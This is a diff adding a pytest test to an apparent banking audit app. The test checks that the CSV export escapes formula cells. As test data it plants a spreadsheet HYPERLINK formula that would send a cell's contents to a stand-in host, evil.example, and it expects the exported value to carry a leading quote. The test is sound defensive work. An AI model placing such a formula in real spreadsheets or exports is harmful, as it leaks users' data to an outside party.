@@ -165,3 +165,16 @@ def test_a_superuser_holds_every_role(history: list[models.Execution]) -> None:
 
     assert root.get("/audit/").status_code == 200
     assert root.get("/executions/").status_code == 200
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    auditor: Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    use_demo_bank(monkeypatch)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    review_data.held_transfer(principal=formula)
+
+    response = auditor.get("/audit/export.csv")
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [r["principal"] for r in rows] == ["'" + formula]
